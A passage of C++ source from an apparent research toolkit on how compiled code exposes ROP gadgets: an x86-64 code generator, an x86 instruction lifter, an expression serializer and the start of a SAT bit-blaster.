        store(in.dst, Reg::RAX);
        break;
      case Opcode::Store:
        load(Reg::RAX, in.a);
        load(Reg::RCX, in.b);
        a_.mov_store(MemRef{.base = Reg::RAX,
                            .disp = static_cast<i32>(in.imm)},
                     Reg::RCX);
        break;
      case Opcode::StoreB: {
        // Read-modify-write of the containing 8 bytes.
        load(Reg::RAX, in.a);
        a_.mov_load(Reg::RDX, MemRef{.base = Reg::RAX,
                                     .disp = static_cast<i32>(in.imm)});
        a_.mov_imm(Reg::RCX, ~i64{0xff});
        a_.alu(Mnemonic::AND, Reg::RDX, Reg::RCX);
        load(Reg::RCX, in.b);
        a_.alu_imm(Mnemonic::AND, Reg::RCX, 0xff);
        a_.alu(Mnemonic::OR, Reg::RDX, Reg::RCX);
        a_.mov_store(MemRef{.base = Reg::RAX,
                            .disp = static_cast<i32>(in.imm)},
                     Reg::RDX);
        break;
      }
      case Opcode::FrameAddr:
        a_.lea(Reg::RAX, MemRef{.base = Reg::RBP,
                                .disp = frame_area_disp(in.imm)});
        store(in.dst, Reg::RAX);
        break;
      case Opcode::GlobalAddr:
        a_.mov_imm(Reg::RAX,
                   static_cast<i64>(image::kDataBase) + in.imm);
        store(in.dst, Reg::RAX);
        break;
      case Opcode::Call: {
        for (size_t i = 0; i < in.args.size(); ++i)
          load(kArgRegs[i], in.args[i]);
        a_.call(fn_labels_[in.imm]);
        store(in.dst, Reg::RAX);
        break;
      }
      case Opcode::Out: {
        // Stage the value in the data-section scratch slot, then write(1).
        load(Reg::RAX, in.a);
        a_.mov_imm(Reg::RSI, static_cast<i64>(image::kDataBase) +
                                 static_cast<i64>(out_scratch_offset(data_)));
        a_.mov_store(MemRef{.base = Reg::RSI}, Reg::RAX);
        a_.mov_imm(Reg::RAX, 1);
        a_.mov_imm(Reg::RDI, 1);
        a_.mov_imm(Reg::RDX, 8);
        a_.syscall();
        break;
      }
    }
  }

  void emit_term(const Terminator& t) {
    switch (t.kind) {
      case Terminator::Kind::Jump:
        a_.jmp(block_labels_[t.target]);
        break;
      case Terminator::Kind::Branch:
        load(Reg::RAX, t.cond);
        a_.alu(Mnemonic::TEST, Reg::RAX, Reg::RAX);
        a_.jcc(Cond::NE, block_labels_[t.target]);
        a_.jmp(block_labels_[t.fallthrough]);
        break;
      case Terminator::Kind::Switch: {
        // Reserve an absolute-address table in data; patched after layout.
        const i64 table_off = static_cast<i64>(data_.size());
        data_.resize(data_.size() + 8 * t.table.size(), 0);
        for (size_t i = 0; i < t.table.size(); ++i)
          table_fixups_.push_back(
              {table_off + 8 * static_cast<i64>(i),
               block_labels_[t.table[i]]});
        load(Reg::RAX, t.cond);
        a_.shift_imm(Mnemonic::SHL, Reg::RAX, 3);
        a_.mov_imm(Reg::RCX,
                   static_cast<i64>(image::kDataBase) + table_off);
        a_.alu(Mnemonic::ADD, Reg::RCX, Reg::RAX);
        a_.jmp_mem(MemRef{.base = Reg::RCX});
        break;
      }
      case Terminator::Kind::Ret:
        load(Reg::RAX, t.value);
        epilogue();
        break;
    }
  }

  /// The 8-byte Out scratch slot lives at a fixed offset recorded once per
  /// compile in compile() below; this helper reads it back.
  static i64 out_scratch_offset(const std::vector<u8>&);

  Assembler& a_;
  const Function& f_;
  const std::vector<Assembler::Label>& fn_labels_;
  std::vector<std::pair<i64, Assembler::Label>>& table_fixups_;
  std::vector<u8>& data_;
  std::vector<Assembler::Label> block_labels_;
  std::unordered_map<Temp, Reg> reg_alloc_;
  std::vector<Reg> saved_;
};

// Scratch offset is communicated via a thread-local set by compile();
// keeps FunctionCompiler free of extra plumbing.
thread_local i64 g_out_scratch = 0;
i64 FunctionCompiler::out_scratch_offset(const std::vector<u8>&) {
  return g_out_scratch;
}

}  // namespace

image::Image compile(const Program& prog, const Options& opts) {
  cfg::verify(prog);

  std::vector<u8> data = prog.data;
  // 8-byte scratch slot used by Out, 8-aligned.
  data.resize((data.size() + 7) & ~size_t{7}, 0);
  g_out_scratch = static_cast<i64>(data.size());
  data.resize(data.size() + 8, 0);

  Assembler a;
  a.set_base(image::kCodeBase);
  std::vector<Assembler::Label> fn_labels;
  for (size_t i = 0; i < prog.functions.size(); ++i)
    fn_labels.push_back(a.new_label());
  std::vector<std::pair<i64, Assembler::Label>> table_fixups;

  // Entry stub.
  a.call(fn_labels[prog.main_index]);
  a.mov(Reg::RDI, Reg::RAX);
  a.mov_imm(Reg::RAX, 60);
  a.syscall();

  std::vector<std::pair<std::string, i64>> symbol_offsets;
  for (size_t i = 0; i < prog.functions.size(); ++i) {
    if (opts.pad_functions)
      for (int k = 0; k < 4; ++k) a.int3();
    a.bind(fn_labels[i]);
    symbol_offsets.emplace_back(prog.functions[i].name,
                                a.label_offset(fn_labels[i]));
    FunctionCompiler fc(a, prog.functions[i], fn_labels, table_fixups, data);
    fc.run();
  }

  // Resolve switch tables now that label offsets are final.
  for (const auto& [data_off, label] : table_fixups) {
    const u64 addr = image::kCodeBase +
                     static_cast<u64>(a.label_offset(label));
    for (int i = 0; i < 8; ++i)
      data[data_off + i] = static_cast<u8>(addr >> (8 * i));
  }

  image::Image img(a.finish(), data, image::kCodeBase);
  for (auto& [name, off] : symbol_offsets)
    img.add_symbol(name, image::kCodeBase + static_cast<u64>(off));
  return img;
}

}  // namespace gp::codegen
