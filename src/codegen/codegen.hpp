// CFG IR -> x86-64 machine code.
//
// A deliberately simple stack-slot code generator (every temp lives in a
// frame slot; operations stage through rax/rcx): easy to verify, and its
// output is idiomatic compiler-shaped code — dense with the mov/alu/branch
// patterns that gadget scanners feed on, which is the point of the study.
//
// Layout of the emitted image:
//   code:  [entry stub][function 0][function 1]...
//   data:  [program data][out-scratch][switch jump tables]
// The entry stub calls main and performs the exit(rax) syscall. Switch
// terminators compile to `jmp [table + sel*8]` with an absolute-address
// table in the data section (patched after layout).
#pragma once

#include "cfg/cfg.hpp"
#include "image/image.hpp"

namespace gp::codegen {

struct Options {
  /// Pad function entries with int3 sleds (off by default; keeps addresses
  /// deterministic for tests).
  bool pad_functions = false;
};

/// Compile a verified program to an executable image.
image::Image compile(const cfg::Program& prog, const Options& opts = {});

}  // namespace gp::codegen
