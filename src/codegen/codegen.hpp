// CFG IR -> x86-64 machine code.
//
// A deliberately simple stack-slot code generator (every temp lives in a
// frame slot; operations stage through rax/rcx): easy to verify, and its
// output is idiomatic compiler-shaped code — dense with the mov/alu/branch
// patterns that gadget scanners feed on, which is the point of the study.
//
// Options::opt selects the optimization level:
//   O0  the reference stack-slot discipline above, untouched;
//   O1  cfg::optimize (constant folding + dead-store elimination) on the
//       IR, plus a peephole over emission: redundant spill reloads elided
//       through a register-value cache, frame slots compacted to the temps
//       that actually need one;
//   O2  O1 plus linear-scan register allocation over live intervals —
//       temps live in callee-saved registers and spill only under
//       pressure, instead of the five-hottest-by-use-count heuristic.
// Every level is deterministic (same input -> byte-identical image) and
// behaviorally identical (differential-emulation-tested per level); the
// levels exist to measure how optimization reshapes the gadget surface.
//
// Layout of the emitted image:
//   code:  [entry stub][function 0][function 1]...
//   data:  [program data][out-scratch][switch jump tables]
// The entry stub calls main and performs the exit(rax) syscall. Switch
// terminators compile to a bounds check (out-of-range selectors trap on
// int3 instead of jumping through bytes past the table) followed by
// `jmp [table + sel*8]` with an absolute-address table in the data
// section (patched after layout).
#pragma once

#include "cfg/cfg.hpp"
#include "image/image.hpp"

namespace gp::codegen {

enum class OptLevel : u8 { O0 = 0, O1 = 1, O2 = 2 };

/// Validate an integer level (the GP_OPT_LEVEL / Job::opt_level domain).
/// Throws gp::Error listing the valid grammar on anything outside 0..2.
OptLevel opt_level_from_int(int level);
const char* opt_level_name(OptLevel level);  // "O0" / "O1" / "O2"

struct Options {
  /// Pad function entries with int3 sleds (off by default; keeps addresses
  /// deterministic for tests).
  bool pad_functions = false;
  /// Optimization level; O0 keeps the historical output byte-for-byte
  /// (modulo the switch bounds check, which applies at every level).
  OptLevel opt = OptLevel::O0;
};

/// Compile a verified program to an executable image.
image::Image compile(const cfg::Program& prog, const Options& opts = {});

}  // namespace gp::codegen
