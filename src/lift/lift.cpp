#include "lift/lift.hpp"

namespace gp::lift {

using ir::Compute;
using ir::Effect;
using ir::EffectKind;
using ir::Flag;
using ir::IrOp;
using ir::JumpKind;
using ir::Lifted;
using ir::TempId;
using x86::Cond;
using x86::Inst;
using x86::MemRef;
using x86::Mnemonic;
using x86::Operand;
using x86::Reg;

namespace {

/// Incremental builder for one Lifted instruction.
class Builder {
 public:
  explicit Builder(const Inst& inst) : inst_(inst) {
    out_.jump.fallthrough = inst.addr + inst.len;
  }

  TempId constant(u64 v, u8 w = 64) {
    return push({.op = IrOp::Const, .width = w, .imm = v});
  }
  TempId get_reg(Reg r) { return push({.op = IrOp::GetReg, .reg = r}); }
  TempId get_flag(Flag f) {
    return push({.op = IrOp::GetFlag, .width = 1, .flag = f});
  }
  TempId load(TempId addr, u8 w) {
    return push({.op = IrOp::Load, .width = w, .a = addr});
  }
  TempId bin(IrOp op, TempId a, TempId b, u8 w) {
    return push({.op = op, .width = w, .a = a, .b = b});
  }
  TempId un(IrOp op, TempId a, u8 w) {
    return push({.op = op, .width = w, .a = a});
  }
  TempId ite(TempId c, TempId t, TempId f, u8 w) {
    return push({.op = IrOp::Ite, .width = w, .a = c, .b = t, .c = f});
  }
  TempId zext64(TempId a) { return push({.op = IrOp::ZExt, .width = 64, .a = a}); }
  TempId trunc(TempId a, u8 w) {
    return push({.op = IrOp::Trunc, .width = w, .a = a});
  }
  TempId eqz(TempId a, u8 w) {
    return bin(IrOp::Eq, a, constant(0, w), 1);
  }

  void put_reg(Reg r, TempId v) {
    out_.effects.push_back({.kind = EffectKind::PutReg, .reg = r, .value = v});
  }
  void put_flag(Flag f, TempId v) {
    out_.effects.push_back(
        {.kind = EffectKind::PutFlag, .flag = f, .value = v});
  }
  void store(TempId addr, TempId v, u8 w) {
    out_.effects.push_back(
        {.kind = EffectKind::Store, .addr = addr, .value = v, .width = w});
  }

  /// The address of a memory operand as a 64-bit temp.
  TempId mem_addr(const MemRef& m) {
    if (m.rip_relative) {
      return constant(inst_.addr + inst_.len + static_cast<i64>(m.disp));
    }
    TempId acc = ir::kNoTemp;
    if (m.base != Reg::NONE) acc = get_reg(m.base);
    if (m.index != Reg::NONE) {
      TempId idx = get_reg(m.index);
      if (m.scale != 1) {
        const u8 sh = m.scale == 2 ? 1 : m.scale == 4 ? 2 : 3;
        idx = bin(IrOp::Shl, idx, constant(sh), 64);
      }
      acc = acc == ir::kNoTemp ? idx : bin(IrOp::Add, acc, idx, 64);
    }
    const TempId disp = constant(static_cast<u64>(static_cast<i64>(m.disp)));
    return acc == ir::kNoTemp ? disp : bin(IrOp::Add, acc, disp, 64);
  }

  /// Read an operand at the instruction's operand size `w`.
  TempId read(const Operand& op, u8 w) {
    switch (op.kind) {
      case x86::OperandKind::REG: {
        TempId full = get_reg(op.reg);
        return w == 64 ? full : trunc(full, w);
      }
      case x86::OperandKind::IMM:
        return constant(truncate(static_cast<u64>(op.imm), w), w);
      case x86::OperandKind::MEM:
        return load(mem_addr(op.mem), w);
      default:
        fail("read of empty operand");
    }
  }

  /// Write `v` (width w) to a register or memory operand. 32-bit register
  /// writes zero-extend to 64 per the x86-64 rule.
  void write(const Operand& op, TempId v, u8 w) {
    if (op.is_reg()) {
      put_reg(op.reg, w == 64 ? v : zext64(v));
    } else {
      GP_CHECK(op.is_mem(), "write to immediate");
      store(mem_addr(op.mem), v, w);
    }
  }

  /// Standard ZF/SF/PF from a result of width w.
  void result_flags(TempId r, u8 w) {
    put_flag(Flag::ZF, eqz(r, w));
    put_flag(Flag::SF, bin(IrOp::Slt, r, constant(0, w), 1));
    // PF: even parity of the low 8 bits.
    TempId p = trunc(r, 8);
    TempId acc = trunc(p, 1);
    for (u8 i = 1; i < 8; ++i) {
      TempId bit = trunc(bin(IrOp::LShr, p, constant(i, 8), 8), 1);
      acc = bin(IrOp::Xor, acc, bit, 1);
    }
    put_flag(Flag::PF, un(IrOp::Not, acc, 1));
  }

  void zero_cf_of() {
    const TempId zero = constant(0, 1);
    put_flag(Flag::CF, zero);
    put_flag(Flag::OF, zero);
  }

  /// Evaluate a condition code from the pre-instruction flags (width 1).
  TempId cond(Cond c) {
    switch (c) {
      case Cond::O: return get_flag(Flag::OF);
      case Cond::NO: return un(IrOp::Not, get_flag(Flag::OF), 1);
      case Cond::B: return get_flag(Flag::CF);
      case Cond::AE: return un(IrOp::Not, get_flag(Flag::CF), 1);
      case Cond::E: return get_flag(Flag::ZF);
      case Cond::NE: return un(IrOp::Not, get_flag(Flag::ZF), 1);
      case Cond::BE:
        return bin(IrOp::Or, get_flag(Flag::CF), get_flag(Flag::ZF), 1);
      case Cond::A:
        return un(IrOp::Not,
                  bin(IrOp::Or, get_flag(Flag::CF), get_flag(Flag::ZF), 1),
                  1);
      case Cond::S: return get_flag(Flag::SF);
      case Cond::NS: return un(IrOp::Not, get_flag(Flag::SF), 1);
      case Cond::P: return get_flag(Flag::PF);
      case Cond::NP: return un(IrOp::Not, get_flag(Flag::PF), 1);
      case Cond::L:
        return bin(IrOp::Xor, get_flag(Flag::SF), get_flag(Flag::OF), 1);
      case Cond::GE:
        return un(IrOp::Not,
                  bin(IrOp::Xor, get_flag(Flag::SF), get_flag(Flag::OF), 1),
                  1);
      case Cond::LE:
        return bin(IrOp::Or, get_flag(Flag::ZF),
                   bin(IrOp::Xor, get_flag(Flag::SF), get_flag(Flag::OF), 1),
                   1);
      case Cond::G:
        return un(
            IrOp::Not,
            bin(IrOp::Or, get_flag(Flag::ZF),
                bin(IrOp::Xor, get_flag(Flag::SF), get_flag(Flag::OF), 1), 1),
            1);
    }
    fail("bad condition code");
  }

  Lifted take() {
    out_.num_temps = next_;
    return std::move(out_);
  }

  Lifted out_;

 private:
  TempId push(Compute c) {
    c.dst = next_++;
    out_.compute.push_back(c);
    return c.dst;
  }
  const Inst& inst_;
  TempId next_ = 0;
};

}  // namespace

ir::Lifted lift(const x86::Inst& inst) {
  Builder b(inst);
  const u8 w = inst.size;

  switch (inst.mnemonic) {
    case Mnemonic::NOP:
    case Mnemonic::INT3:  // treated as a no-op marker; emulator stops on it
      break;

    case Mnemonic::MOV:
    case Mnemonic::MOVABS: {
      const TempId v = b.read(inst.src, w);
      b.write(inst.dst, v, w);
      break;
    }

    case Mnemonic::LEA: {
      const TempId a = b.mem_addr(inst.src.mem);
      const TempId v = w == 64 ? a : b.trunc(a, w);
      b.write(inst.dst, v, w);
      break;
    }

    case Mnemonic::MOVZX:
    case Mnemonic::MOVSX: {
      // Narrow read (8/16 bits) widened to the operand size. Memory reads
      // use the narrow width; register sources take the low bits.
      TempId narrow;
      if (inst.src.is_mem()) {
        narrow = b.load(b.mem_addr(inst.src.mem), inst.src_size);
      } else {
        narrow = b.trunc(b.get_reg(inst.src.reg), inst.src_size);
      }
      const TempId v = b.un(inst.mnemonic == Mnemonic::MOVZX ? IrOp::ZExt
                                                             : IrOp::SExt,
                            narrow, w);
      b.write(inst.dst, v, w);
      break;
    }

    case Mnemonic::CMOV: {
      const TempId cond = b.cond(inst.cond);
      const TempId cur = b.read(inst.dst, w);
      const TempId alt = b.read(inst.src, w);
      b.write(inst.dst, b.ite(cond, alt, cur, w), w);
      break;
    }

    case Mnemonic::XCHG: {
      const TempId x = b.read(inst.dst, w);
      const TempId y = b.read(inst.src, w);
      b.write(inst.dst, y, w);
      b.write(inst.src, x, w);
      break;
    }

    case Mnemonic::ADD: {
      const TempId a = b.read(inst.dst, w);
      const TempId c = b.read(inst.src, w);
      const TempId r = b.bin(IrOp::Add, a, c, w);
      b.write(inst.dst, r, w);
      b.result_flags(r, w);
      b.put_flag(Flag::CF, b.bin(IrOp::Ult, r, a, 1));
      // OF: operands same sign, result different sign.
      const TempId sa = b.bin(IrOp::Slt, a, b.constant(0, w), 1);
      const TempId sc = b.bin(IrOp::Slt, c, b.constant(0, w), 1);
      const TempId sr = b.bin(IrOp::Slt, r, b.constant(0, w), 1);
      const TempId same = b.un(IrOp::Not, b.bin(IrOp::Xor, sa, sc, 1), 1);
      b.put_flag(Flag::OF, b.bin(IrOp::And, same,
                                 b.bin(IrOp::Xor, sa, sr, 1), 1));
      break;
    }

    case Mnemonic::SUB:
    case Mnemonic::CMP: {
      const TempId a = b.read(inst.dst, w);
      const TempId c = b.read(inst.src, w);
      const TempId r = b.bin(IrOp::Sub, a, c, w);
      if (inst.mnemonic == Mnemonic::SUB) b.write(inst.dst, r, w);
      b.result_flags(r, w);
      b.put_flag(Flag::CF, b.bin(IrOp::Ult, a, c, 1));
      const TempId sa = b.bin(IrOp::Slt, a, b.constant(0, w), 1);
      const TempId sc = b.bin(IrOp::Slt, c, b.constant(0, w), 1);
      const TempId sr = b.bin(IrOp::Slt, r, b.constant(0, w), 1);
      const TempId diff = b.bin(IrOp::Xor, sa, sc, 1);
      b.put_flag(Flag::OF,
                 b.bin(IrOp::And, diff, b.bin(IrOp::Xor, sa, sr, 1), 1));
      break;
    }

    case Mnemonic::AND:
    case Mnemonic::OR:
    case Mnemonic::XOR:
    case Mnemonic::TEST: {
      const IrOp op = inst.mnemonic == Mnemonic::OR    ? IrOp::Or
                      : inst.mnemonic == Mnemonic::XOR ? IrOp::Xor
                                                       : IrOp::And;
      const TempId a = b.read(inst.dst, w);
      const TempId c = b.read(inst.src, w);
      const TempId r = b.bin(op, a, c, w);
      if (inst.mnemonic != Mnemonic::TEST) b.write(inst.dst, r, w);
      b.result_flags(r, w);
      b.zero_cf_of();
      break;
    }

    case Mnemonic::NOT: {
      const TempId a = b.read(inst.dst, w);
      b.write(inst.dst, b.un(IrOp::Not, a, w), w);
      break;  // NOT sets no flags
    }

    case Mnemonic::NEG: {
      const TempId a = b.read(inst.dst, w);
      const TempId r = b.un(IrOp::Neg, a, w);
      b.write(inst.dst, r, w);
      b.result_flags(r, w);
      b.put_flag(Flag::CF, b.un(IrOp::Not, b.eqz(a, w), 1));
      // OF: a == INT_MIN.
      b.put_flag(Flag::OF,
                 b.bin(IrOp::Eq, a,
                       b.constant(u64{1} << (w - 1), w), 1));
      break;
    }

    case Mnemonic::INC:
    case Mnemonic::DEC: {
      const TempId a = b.read(inst.dst, w);
      const TempId one = b.constant(1, w);
      const bool inc = inst.mnemonic == Mnemonic::INC;
      const TempId r = b.bin(inc ? IrOp::Add : IrOp::Sub, a, one, w);
      b.write(inst.dst, r, w);
      b.result_flags(r, w);  // CF unchanged per x86
      const TempId lim =
          b.constant(inc ? (u64{1} << (w - 1)) - 1 : u64{1} << (w - 1), w);
      b.put_flag(Flag::OF, b.bin(IrOp::Eq, a, lim, 1));
      break;
    }

    case Mnemonic::IMUL: {
      const TempId a = b.read(inst.dst, w);
      const TempId c = b.read(inst.src, w);
      const TempId r = b.bin(IrOp::Mul, a, c, w);
      b.write(inst.dst, r, w);
      b.result_flags(r, w);
      b.zero_cf_of();  // in-universe simplification (see header)
      break;
    }

    case Mnemonic::SHL:
    case Mnemonic::SHR:
    case Mnemonic::SAR: {
      const IrOp op = inst.mnemonic == Mnemonic::SHL    ? IrOp::Shl
                      : inst.mnemonic == Mnemonic::SHR ? IrOp::LShr
                                                       : IrOp::AShr;
      const TempId a = b.read(inst.dst, w);
      TempId cnt = b.read(inst.src, w);
      const u64 mask = w == 64 ? 63 : 31;
      cnt = b.bin(IrOp::And, cnt, b.constant(mask, w), w);
      const TempId r = b.bin(op, a, cnt, w);
      b.write(inst.dst, r, w);
      // Flags only change when count != 0; model precisely with ITEs.
      const TempId cnt_zero = b.eqz(cnt, w);
      auto keep = [&](Flag f, TempId new_v) {
        b.put_flag(f, b.ite(cnt_zero, b.get_flag(f), new_v, 1));
      };
      keep(Flag::ZF, b.eqz(r, w));
      keep(Flag::SF, b.bin(IrOp::Slt, r, b.constant(0, w), 1));
      // CF = last bit shifted out.
      TempId cf;
      if (op == IrOp::Shl) {
        // bit (w - cnt) of a
        const TempId sh = b.bin(IrOp::Sub, b.constant(w, w), cnt, w);
        cf = b.trunc(b.bin(IrOp::LShr, a, sh, w), 1);
      } else {
        const TempId sh = b.bin(IrOp::Sub, cnt, b.constant(1, w), w);
        const TempId shifted = op == IrOp::AShr
                                   ? b.bin(IrOp::AShr, a, sh, w)
                                   : b.bin(IrOp::LShr, a, sh, w);
        cf = b.trunc(shifted, 1);
      }
      keep(Flag::CF, cf);
      keep(Flag::OF, b.constant(0, 1));  // in-universe simplification
      keep(Flag::PF, b.constant(0, 1));  // PF recomputed cheaply as 0-model
      break;
    }

    case Mnemonic::PUSH: {
      const TempId v = b.read(inst.dst, 64);
      const TempId rsp = b.get_reg(Reg::RSP);
      const TempId nsp = b.bin(IrOp::Sub, rsp, b.constant(8), 64);
      b.store(nsp, v, 64);
      b.put_reg(Reg::RSP, nsp);
      break;
    }

    case Mnemonic::POP: {
      const TempId rsp = b.get_reg(Reg::RSP);
      const TempId v = b.load(rsp, 64);
      const TempId nsp = b.bin(IrOp::Add, rsp, b.constant(8), 64);
      // Write the popped value first, then rsp — except for `pop rsp`,
      // where the loaded value wins (x86 semantics).
      b.put_reg(Reg::RSP, nsp);
      b.write(inst.dst, v, 64);
      break;
    }

    case Mnemonic::LEAVE: {
      const TempId rbp = b.get_reg(Reg::RBP);
      const TempId v = b.load(rbp, 64);
      b.put_reg(Reg::RSP, b.bin(IrOp::Add, rbp, b.constant(8), 64));
      b.put_reg(Reg::RBP, v);
      break;
    }

    case Mnemonic::RET: {
      const TempId rsp = b.get_reg(Reg::RSP);
      const TempId target = b.load(rsp, 64);
      const u64 extra = inst.dst.is_imm() ? static_cast<u64>(inst.dst.imm) : 0;
      b.put_reg(Reg::RSP,
                b.bin(IrOp::Add, rsp, b.constant(8 + extra), 64));
      b.out_.jump.kind = JumpKind::Indirect;
      b.out_.jump.target_temp = target;
      b.out_.jump.is_ret = true;
      break;
    }

    case Mnemonic::JMP: {
      if (inst.dst.is_imm()) {
        b.out_.jump.kind = JumpKind::Direct;
        b.out_.jump.target = inst.direct_target();
      } else {
        b.out_.jump.kind = JumpKind::Indirect;
        b.out_.jump.target_temp = b.read(inst.dst, 64);
      }
      break;
    }

    case Mnemonic::JCC: {
      b.out_.jump.kind = JumpKind::CondDirect;
      b.out_.jump.target = inst.direct_target();
      b.out_.jump.cond = b.cond(inst.cond);
      break;
    }

    case Mnemonic::CALL: {
      const TempId ra = b.constant(inst.addr + inst.len);
      const TempId rsp = b.get_reg(Reg::RSP);
      const TempId nsp = b.bin(IrOp::Sub, rsp, b.constant(8), 64);
      b.store(nsp, ra, 64);
      b.put_reg(Reg::RSP, nsp);
      if (inst.dst.is_imm()) {
        b.out_.jump.kind = JumpKind::Direct;
        b.out_.jump.target = inst.direct_target();
      } else {
        b.out_.jump.kind = JumpKind::Indirect;
        b.out_.jump.target_temp = b.read(inst.dst, 64);
      }
      b.out_.jump.is_call = true;
      break;
    }

    case Mnemonic::SYSCALL:
      b.out_.jump.kind = JumpKind::Syscall;
      break;
  }

  return b.take();
}

}  // namespace gp::lift
