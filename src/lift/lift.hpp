// x86 -> micro-IR lifter. Produces the full flag semantics (ZF/SF/CF/OF/PF)
// for the supported subset; the deliberate in-universe simplifications
// (documented in DESIGN.md) are:
//   - OF after shifts is defined as 0 (real x86 leaves it undefined for
//     counts != 1);
//   - CF/OF after two-operand IMUL are defined as 0 (real x86 sets them from
//     the truncated product);
// both engines interpret the same IR, so these choices are consistent
// everywhere they could be observed.
#pragma once

#include "ir/ir.hpp"
#include "x86/inst.hpp"

namespace gp::lift {

/// Lift one decoded instruction. Throws gp::Error on instructions outside
/// the supported subset (decode() already filters those).
ir::Lifted lift(const x86::Inst& inst);

}  // namespace gp::lift
