// Stable serialization of expression DAGs (the checkpointable half of a
// solver::Context).
//
// An ExprEncoder collects the nodes reachable from the refs it is asked to
// encode — in ref order, which is topological because operands intern
// before their users — and assigns them compact stable ids. Decoding
// replays each node through the destination context's public smart
// constructors, exactly like solver::Importer does for cross-context
// remaps: variables rebind by name, constants by value, everything else
// re-simplifies. Replaying an already-canonical node through the (pure,
// deterministic) constructors reproduces a structurally identical node, so
//   encode(ctx, roots) |> decode(fresh_ctx)
// yields terms that print, evaluate and solve identically — the property
// the kill-resume determinism test locks down.
#pragma once

#include <unordered_map>
#include <vector>

#include "solver/expr.hpp"
#include "support/serial.hpp"

namespace gp::solver {

/// Assigns compact ids to reachable nodes and writes them to a record.
/// Encode all roots first (add()), then emit the node table with
/// write_nodes(); afterwards id() translates any encoded root.
class ExprEncoder {
 public:
  explicit ExprEncoder(const Context& ctx) : ctx_(ctx) {}

  /// Register `e` (and its sub-DAG) for encoding; kNoExpr passes through.
  void add(ExprRef e);
  /// Append the node table (count + one entry per node, in topological
  /// order) to `w` and fix the compact ids.
  void write_nodes(serial::Writer& w);
  /// Compact id of an add()ed ref; valid only after write_nodes().
  u32 id(ExprRef e) const;

  static constexpr u32 kNoId = 0xffffffff;

 private:
  const Context& ctx_;
  std::vector<ExprRef> order_;  // nodes in ref (= topological) order
  std::unordered_map<ExprRef, u32> ids_;  // ref -> compact id
};

/// Reads a node table and rebuilds every node in `dst` through its smart
/// constructors. ref(id) then maps serialized ids to destination refs.
class ExprDecoder {
 public:
  explicit ExprDecoder(Context& dst) : dst_(dst) {}

  /// Parse the node table from `r`. Returns false (and fails `r`) on any
  /// structural violation: bad op/width, forward or self reference,
  /// out-of-range operand.
  bool read_nodes(serial::Reader& r);
  /// Destination ref for serialized id `id`; kNoExpr for kNoId. Fails `r`
  /// on an out-of-range id.
  ExprRef ref(u32 id, serial::Reader& r) const;

 private:
  Context& dst_;
  std::vector<ExprRef> refs_;  // id -> rebuilt ref
};

}  // namespace gp::solver
