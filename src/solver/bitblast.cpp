#include "solver/bitblast.hpp"

namespace gp::solver {

bool BitBlaster::is_const_lit(Lit l, bool* out) const {
  if (l == true_lit_) {
    *out = true;
    return true;
  }
  if (l == false_lit()) {
    *out = false;
    return true;
  }
  return false;
}

Lit BitBlaster::mk_and(Lit a, Lit b) {
  bool ca, cb;
  if (is_const_lit(a, &ca)) return ca ? b : false_lit();
  if (is_const_lit(b, &cb)) return cb ? a : false_lit();
  if (a == b) return a;
  if (a == ~b) return false_lit();
  if (a.code > b.code) std::swap(a, b);
  const u64 key = (u64{1} << 62) | (u64{a.code} << 31) | b.code;
  auto it = gates_.find(key);
  if (it != gates_.end()) return it->second;
  const Lit o = Lit::pos(sat_.new_var());
  sat_.add_clause({~o, a});
  sat_.add_clause({~o, b});
  sat_.add_clause({o, ~a, ~b});
  gates_.emplace(key, o);
  return o;
}

Lit BitBlaster::mk_or(Lit a, Lit b) { return ~mk_and(~a, ~b); }

Lit BitBlaster::mk_xor(Lit a, Lit b) {
  bool ca, cb;
  if (is_const_lit(a, &ca)) return ca ? ~b : b;
  if (is_const_lit(b, &cb)) return cb ? ~a : a;
  if (a == b) return false_lit();
  if (a == ~b) return true_lit_;
  if (a.code > b.code) std::swap(a, b);
  const u64 key = (u64{2} << 62) | (u64{a.code} << 31) | b.code;
  auto it = gates_.find(key);
  if (it != gates_.end()) return it->second;
  const Lit o = Lit::pos(sat_.new_var());
  sat_.add_clause({~o, a, b});
  sat_.add_clause({~o, ~a, ~b});
  sat_.add_clause({o, ~a, b});
  sat_.add_clause({o, a, ~b});
  gates_.emplace(key, o);
  return o;
}

Lit BitBlaster::mk_mux(Lit sel, Lit t, Lit f) {
  bool c;
  if (is_const_lit(sel, &c)) return c ? t : f;
  if (t == f) return t;
  return mk_or(mk_and(sel, t), mk_and(~sel, f));
}

Lit BitBlaster::mk_big_and(const std::vector<Lit>& ls) {
  Lit acc = true_lit_;
  for (const Lit l : ls) acc = mk_and(acc, l);
  return acc;
}

BitBlaster::Bits BitBlaster::add_bits(const Bits& a, const Bits& b,
                                      Lit carry_in) {
  GP_CHECK(a.size() == b.size(), "adder width mismatch");
  Bits sum(a.size(), false_lit());
  Lit carry = carry_in;
  for (size_t i = 0; i < a.size(); ++i) {
    const Lit axb = mk_xor(a[i], b[i]);
    sum[i] = mk_xor(axb, carry);
    carry = mk_or(mk_and(a[i], b[i]), mk_and(carry, axb));
  }
  return sum;
}

Lit BitBlaster::ult_bits(const Bits& a, const Bits& b) {
  // a < b unsigned: iterate from MSB; at the first differing bit, a's bit is
  // 0 and b's is 1.
  Lit lt = false_lit();
  Lit eq_so_far = true_lit_;
  for (size_t i = a.size(); i-- > 0;) {
    lt = mk_or(lt, mk_and(eq_so_far, mk_and(~a[i], b[i])));
    eq_so_far = mk_and(eq_so_far, ~mk_xor(a[i], b[i]));
  }
  return lt;
}

BitBlaster::Bits BitBlaster::blast(ExprRef e) {
  auto hit = cache_.find(e);
  if (hit != cache_.end()) return hit->second;

  const Node& n = ctx_.node(e);
  const u8 w = n.width;
  Bits out(w, false_lit());

  switch (n.op) {
    case Op::Const:
      for (u8 i = 0; i < w; ++i) out[i] = lit_const((n.cval >> i) & 1);
      break;
    case Op::Var:
      for (u8 i = 0; i < w; ++i) out[i] = Lit::pos(sat_.new_var());
      break;
    case Op::Add:
      out = add_bits(blast(n.a), blast(n.b), false_lit());
      break;
    case Op::Neg: {
      Bits a = blast(n.a);
      for (auto& l : a) l = ~l;
      out = add_bits(a, Bits(w, false_lit()), true_lit_);
      break;
    }
    case Op::Mul: {
      const Bits a = blast(n.a);
      const Bits b = blast(n.b);
      Bits acc(w, false_lit());
      for (u8 i = 0; i < w; ++i) {
        // acc += (a << i) gated by b[i]
        Bits addend(w, false_lit());
        for (u8 j = i; j < w; ++j) addend[j] = mk_and(a[j - i], b[i]);
        acc = add_bits(acc, addend, false_lit());
      }
      out = acc;
      break;
    }
    case Op::And: {
      const Bits a = blast(n.a), b = blast(n.b);
